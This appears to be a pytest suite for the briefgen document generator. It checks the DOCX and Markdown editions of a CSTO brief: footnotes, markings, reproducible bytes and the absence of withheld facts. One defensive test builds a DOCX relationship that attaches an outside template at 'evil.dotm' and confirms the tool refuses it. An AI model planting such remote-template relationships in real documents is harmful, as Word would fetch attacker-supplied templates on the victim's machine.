"""The DOCX and Markdown editions, built through the real CLI and read back.

The CSTO brief is built once into PDF, DOCX and Markdown (dated by
SOURCE_DATE_EPOCH); the DOCX is read from its zip's XML: its footnotes must be
the PDF's notes, its header and footer the marking, its parts free of anything
withheld, and a rebuild must give the same bytes. LibreOffice (Debian's
libreoffice-writer) then opens each DOCX and prints it, with the notes at the
foot of the page. Hostile reference documents go through the CLI too.
"""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pytest
from pypdf import PdfReader

from briefgen.audience import choose
from briefgen.load import load_brief
from briefgen.ooxml import docx_parts, part_text
from briefgen.select import select
from tests.conftest import REPO, edit
from tests.hostile import assert_refused, run_briefgen
from tests.test_notes_pdf import mult, notes_of

pytestmark = pytest.mark.slow

AUDIENCES = ("analyst", "executive", "public")
EPOCH = "1700000000"  # 14 November 2023
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
BUILT_IN_REFERENCE = REPO / "briefgen" / "templates" / "reference.docx"


def build(out: Path, *formats: str, cwd: Path = REPO, force: bool = True) -> str:
    args = ["build", "--all", "-o", str(out), *(f"-f{fmt}" for fmt in formats)]
    result = run_briefgen(
        [*args, *(["--force"] if force else [])], cwd, timeout=300, env={"SOURCE_DATE_EPOCH": EPOCH}
    )
    assert result.returncode == 0, result.stderr
    return result.stdout


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("editions")
    build(folder, "pdf", "docx", "md")
    return folder


def parts(path: Path) -> dict[str, str]:
    return dict(docx_parts(path.read_bytes()))


def footnotes(path: Path) -> list[str]:
    """The text of each real footnote (separators aside), in order."""
    import xml.etree.ElementTree as ET

    root = ET.fromstring(parts(path)["word/footnotes.xml"])
    found = []
    for footnote in root.iter(f"{W}footnote"):
        if footnote.get(f"{W}type") in {"separator", "continuationSeparator"}:
            continue
        found.append(part_text(ET.tostring(footnote, encoding="unicode")))
    return found


def squeezed(text: str) -> str:
    """Text with spaces and hyphens gone: line breaks and hyphenation differ by layout."""
    return re.sub(r"[\s\-‐\u00ad\u2060]+", "", text)


def test_docx_footnotes_are_the_pdf_notes(out: Path) -> None:
    for name in AUDIENCES:
        pdf_notes = notes_of(PdfReader(out / f"csto-brief-{name}.pdf"))
        docx_notes = footnotes(out / f"csto-brief-{name}.docx")
        assert len(docx_notes) == len(pdf_notes) > 5, name
        pdf_texts = [pdf_notes[number] for number in sorted(pdf_notes)]
        for number, (ours, theirs) in enumerate(zip(docx_notes, pdf_texts, strict=True), 1):
            assert squeezed(ours) == squeezed(theirs), (name, number)


def test_markdown_notes_are_numbered_like_the_pdfs(out: Path) -> None:
    for name in AUDIENCES:
        markdown = (out / f"csto-brief-{name}.md").read_text(encoding="utf-8")
        count = len(notes_of(PdfReader(out / f"csto-brief-{name}.pdf")))
        defined = re.findall(r"^\[\^(\d+)\]: ", markdown, flags=re.MULTILINE)
        assert defined == [str(n) for n in range(1, count + 1)], name
        assert markdown.startswith("---\n") and "\ntitle: " in markdown


def test_every_header_and_footer_carries_the_marking(out: Path) -> None:
    brief = load_brief(REPO / "briefgen.yaml")
    for audience in choose(brief.config, everything=True):
        found = parts(out / f"{audience.stem}.docx")
        assert part_text(found["word/header-briefgen.xml"]).strip() == audience.marking
        footer = part_text(found["word/footer-briefgen.xml"])
        assert footer.splitlines()[0] == audience.marking
        assert "Page" in footer and " of " in footer
        document = found["word/document.xml"]
        sections = document.count("<w:sectPr")
        for kind in ("default", "even", "first"):
            for reference in ("headerReference", "footerReference"):
                found_refs = re.findall(f'<w:{reference}[^>]*w:type="{kind}"', document)
                assert len(found_refs) == sections, (reference, kind)
        markdown = (out / f"{audience.stem}.md").read_text(encoding="utf-8").splitlines()
        body = [line for line in markdown if line and not line.startswith("[^")]
        assert f"**{audience.marking}**" in markdown[:40]
        assert body[-1] == f"**{audience.marking}**"


def test_headings_are_words_heading_styles(out: Path) -> None:
    import xml.etree.ElementTree as ET

    brief = load_brief(REPO / "briefgen.yaml")
    audience = choose(brief.config, ["analyst"])[0]
    root = ET.fromstring(parts(out / f"{audience.stem}.docx")["word/document.xml"])
    headings = []
    for paragraph in root.iter(f"{W}p"):
        style = paragraph.find(f"{W}pPr/{W}pStyle")
        if style is not None and style.get(f"{W}val") == "Heading1":
            headings.append("".join(t.text or "" for t in paragraph.iter(f"{W}t")))
    topics = len(select(brief, audience).sections)
    assert headings[0] == "Key judgments"
    assert headings[-3:] == ["Chronology", "Sources and method", "Bibliography"]
    assert len(headings) == topics + 4
    styles = parts(out / f"{audience.stem}.docx")["word/styles.xml"]
    # the navigation pane lists Heading 1: its style has outline level 0
    heading_style = re.search(r'w:styleId="Heading1".*?</w:style>', styles, re.DOTALL)
    assert heading_style and re.search(r'<w:outlineLvl w:val="0"\s*/>', heading_style[0])


def test_document_properties(out: Path) -> None:
    import xml.etree.ElementTree as ET

    core = ET.fromstring(parts(out / "csto-brief-public.docx")["docProps/core.xml"])
    found = {element.tag.rsplit("}", 1)[1]: element.text for element in core}
    assert found["title"] == "The Collective Security Treaty Organization — Public brief"
    assert found["creator"] == "briefgen CSTO desk"
    assert found["subject"].startswith("The CSTO’s membership") or found["subject"].startswith(
        "The CSTO's membership"
    )
    assert "Kazakhstan" in found["keywords"]
    assert found["created"] == found["modified"] == "2023-11-14T00:00:00Z"


def test_no_withheld_material_in_any_part_of_the_public_edition(out: Path) -> None:
    brief = load_brief(REPO / "briefgen.yaml")
    audience = choose(brief.config, ["public"])[0]
    withheld = select(brief, audience).withheld
    assert withheld
    texts = [
        part_text(xml) + "\n" + xml
        for _, xml in docx_parts((out / f"{audience.stem}.docx").read_bytes())
    ]
    texts.append((out / f"{audience.stem}.md").read_text(encoding="utf-8"))
    for text in texts:
        assert "INTERNAL" not in text
        for fact in withheld:
            assert f"fact-{fact.id}" not in text
            words = " ".join(fact.text.split()[:6])
            assert words not in text, fact.id


def test_rebuilds_give_the_same_bytes_and_dates(out: Path, tmp_path: Path) -> None:
    build(tmp_path, "docx", "md")
    for name in AUDIENCES:
        for fmt in ("docx", "md"):
            first = (out / f"csto-brief-{name}.{fmt}").read_bytes()
            assert (tmp_path / f"csto-brief-{name}.{fmt}").read_bytes() == first, (name, fmt)
        with zipfile.ZipFile(out / f"csto-brief-{name}.docx") as archive:
            names = archive.namelist()
            assert names[0] == "[Content_Types].xml"
            assert {info.date_time for info in archive.infolist()} == {(2023, 11, 14, 0, 0, 0)}


def test_the_manifest_covers_the_new_formats_and_skips_them_unchanged(out: Path) -> None:
    manifest = json.loads((out / "manifest.json").read_text())
    records = manifest["outputs"]
    for name in AUDIENCES:
        for fmt in ("docx", "md"):
            record = records[f"csto-brief-{name}.{fmt}"]
            assert record["format"] == fmt and record["audience"] == name
    said = build(out, "docx", "md", force=False)
    assert said.count("unchanged, skipped") == 3


def test_an_audience_builds_the_formats_its_configuration_lists(project: Any) -> None:
    root = project("audiences")
    trade = "    title: Trade desk\n"
    edit(root / "briefgen.yaml", trade, trade + "    formats: [md]\n")
    result = run_briefgen(["build", "--all"], root, timeout=300)
    assert result.returncode == 0, result.stderr
    made = sorted(path.name for path in (root / "out").iterdir())
    assert "widgets-trade.md" in made and "widgets-trade.html" not in made
    assert "widgets-full.pdf" in made and "widgets-full.md" not in made


# LibreOffice -----------------------------------------------------------------------------

NOTE_POINTS = 7.5  # reference.docx: Footnote Text
MM = 72 / 25.4


def drawn(page: Any) -> list[tuple[float, float, str]]:
    """Each piece of text a page draws: (height from the bottom, size in points, text)."""
    found: list[tuple[float, float, str]] = []

    def visit(text: str, cm: list[float], tm: list[float], font: Any, size: float) -> None:
        if text.strip():
            a, b, _, _, _, f = mult(tm, cm)
            found.append((f, round(size * (a * a + b * b) ** 0.5, 2), text))

    page.extract_text(visitor_text=visit)
    return found


def _libreoffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        if os.environ.get("BRIEFGEN_REQUIRE_LIBREOFFICE"):
            pytest.fail("LibreOffice is required here (BRIEFGEN_REQUIRE_LIBREOFFICE) but missing")
        pytest.skip("LibreOffice (Debian's libreoffice-writer) is not installed")
    return found


def test_libreoffice_prints_each_docx_with_notes_at_the_page_foot(
    out: Path, tmp_path: Path
) -> None:
    soffice = _libreoffice()
    printed = tmp_path / "printed"
    command = [
        soffice,
        "--headless",
        f"-env:UserInstallation=file://{tmp_path / 'profile'}",
        "--convert-to",
        "pdf",
        "--outdir",
        str(printed),
        *(str(out / f"csto-brief-{name}.docx") for name in AUDIENCES),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=240)
    for name in AUDIENCES:
        reader = PdfReader(printed / f"csto-brief-{name}.pdf")
        expected = footnotes(out / f"csto-brief-{name}.docx")
        text = squeezed(" ".join(page.extract_text() for page in reader.pages))
        for note in expected:
            assert squeezed(note)[:60] in text, (name, note[:60])
        pages_with_notes = 0
        numbers: list[int] = []
        for number, page in enumerate(reader.pages, 1):
            height = float(page.mediabox.height)
            every = drawn(page)
            runs = [r for r in every if not r[2].strip().isdigit()]  # calls aside
            # Between the margins: above the footer (22 mm), below the header (20 mm).
            inside = [r for r in runs if 22 * MM < r[0] < height - 20 * MM]
            notes = [r for r in inside if abs(r[1] - NOTE_POINTS) < 0.3]
            body = [r for r in inside if r[1] >= 9.5]
            if not notes:
                continue
            pages_with_notes += 1
            lowest_body = min(y for y, _, _ in body) if body else height
            assert max(y for y, _, _ in notes) < lowest_body, (name, number)
            footer = [r for r in runs if r[0] < 22 * MM]
            assert any(text.startswith("Page") for _, _, text in footer), (name, number)
            # The notes' own numbers: small raised digits in the note area, top to bottom.
            top = max(y for y, _, _ in notes) + 4  # a note's number is raised a little
            marks = [
                r for r in every if r[2].strip().isdigit() and r[1] < 6 and 22 * MM < r[0] < top
            ]
            numbers += [int(text) for _, _, text in sorted(marks, key=lambda r: -r[0])]
        # Numbered through the document as in the PDF, never restarting under a heading.
        assert numbers == list(range(1, len(expected) + 1)), name
        # Set in the bundled faces the DOCX embeds (no machine here has them installed).
        fonts = {
            str(font.get_object()["/BaseFont"]).split("+")[-1]
            for page in reader.pages
            for font in page["/Resources"]["/Font"].values()
        }
        assert {"CharisSIL", "NotoSans-Regular", "NotoSans-Bold"} <= fonts, (name, fonts)
        assert pages_with_notes >= len(reader.pages) // 2, name


# Hostile reference documents, through the CLI -----------------------------------------------


def reference_with(target: Path, part: str, old: str, new: str) -> None:
    """The shipped reference document with one part's text edited, written to `target`."""
    with zipfile.ZipFile(BUILT_IN_REFERENCE) as source:
        contents = {info.filename: source.read(info) for info in source.infolist()}
    text = contents.get(part, b"").decode("utf-8")
    assert old in text, (part, old)  # "" is in every text: a new part
    contents[part] = text.replace(old, new, 1).encode("utf-8")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in contents.items():
            archive.writestr(name, content)
    target.write_bytes(buffer.getvalue())


def docx_project(project: Any) -> Path:
    root = project("audiences")
    edit(root / "briefgen.yaml", "name: widgets\n", "name: widgets\nformats: [docx]\n")
    return root


def test_a_reference_document_that_fetches_an_outside_template_is_refused(project: Any) -> None:
    root = docx_project(project)
    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
        'schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
    )
    with zipfile.ZipFile(BUILT_IN_REFERENCE) as source:
        contents = {info.filename: source.read(info) for info in source.infolist()}
    contents["word/_rels/settings.xml.rels"] = settings_rels.encode()
    with zipfile.ZipFile(root / "templates" / "reference.docx", "w") as archive:
        for name, content in contents.items():
            archive.writestr(name, content)
    result = run_briefgen(["build", "-a", "public"], root, timeout=120)
    line = assert_refused(result, "templates/reference.docx", "outside file", "Word would fetch")
    assert "attachedTemplate" in line
    assert not (root / "out").exists() or not list((root / "out").glob("*.docx"))


SECRET = "QXMARKER7741 the ministry privately expects one signatory to walk out"
"""The withheld fact `treaty-secret` of the fixture, which the public audience must never show."""


def test_withheld_text_in_a_reference_documents_styles_fails_the_build(project: Any) -> None:
    root = docx_project(project)
    reference_with(
        root / "templates" / "reference.docx",
        "word/styles.xml",
        '<w:name w:val="Summary" />',
        f'<w:name w:val="Summary" /><w:aliases w:val="{SECRET}"/>',
    )
    result = run_briefgen(["build", "-a", "public"], root, timeout=120)
    line = assert_refused(result, "audience 'public'", "treaty-secret", "DOCX word/styles.xml")
    assert "appears in the output" in line
    assert not (root / "out").exists() or not list((root / "out").glob("*.docx"))


@pytest.mark.parametrize(
    ("part", "old", "new"),
    [
        ("docProps/app.xml", "<SharedDoc>", f"<Company>{SECRET}</Company><SharedDoc>"),
        ("word/media/notes.txt", "", SECRET),  # Pandoc copies unused media: dropped
        ("word/media/logo.svg", "", f"<svg><text>{SECRET}</text></svg>"),
    ],
)
def test_what_the_reference_document_carries_but_shows_nowhere_is_dropped(
    project: Any, part: str, old: str, new: str
) -> None:
    root = docx_project(project)
    reference_with(root / "templates" / "reference.docx", part, old, new)
    result = run_briefgen(["build", "-a", "public"], root, timeout=120)
    assert result.returncode == 0, result.stderr
    with zipfile.ZipFile(root / "out" / "widgets-public.docx") as archive:
        assert not [name for name in archive.namelist() if name.startswith("word/media/")]
        assert all(b"QXMARKER7741" not in archive.read(name) for name in archive.namelist())


def test_a_reference_document_outside_the_project_is_refused(project: Any, tmp_path: Path) -> None:
    root = docx_project(project)
    outside = tmp_path / "elsewhere.docx"
    shutil.copy(BUILT_IN_REFERENCE, outside)
    (root / "templates" / "reference.docx").symlink_to(outside)
    result = run_briefgen(["build", "-a", "public"], root, timeout=120)
    assert_refused(result, "reference document 'reference.docx'")


def test_a_project_reference_document_sets_the_styles(project: Any) -> None:
    root = docx_project(project)
    reference_with(
        root / "templates" / "reference.docx",
        "word/styles.xml",
        'w:ascii="Charis SIL"',
        'w:ascii="Project Serif"',
    )
    result = run_briefgen(["build", "-a", "public"], root, timeout=120)
    assert result.returncode == 0, result.stderr
    styles = parts(root / "out" / "widgets-public.docx")["word/styles.xml"]
    assert 'w:ascii="Project Serif"' in styles


def test_without_pandoc_the_build_names_the_extra(project: Any, tmp_path: Path) -> None:
    root = docx_project(project)
    fake = tmp_path / "fake" / "pypandoc"
    fake.mkdir(parents=True)
    (fake / "__init__.py").write_text("")  # plain pypandoc, without a bundled Pandoc
    result = run_briefgen(
        ["build", "-a", "public"], root, timeout=120, env={"PYTHONPATH": str(fake.parent)}
    )
    assert_refused(result, "need the Pandoc that briefgen[docx] installs")
    assert not (root / "out").exists()
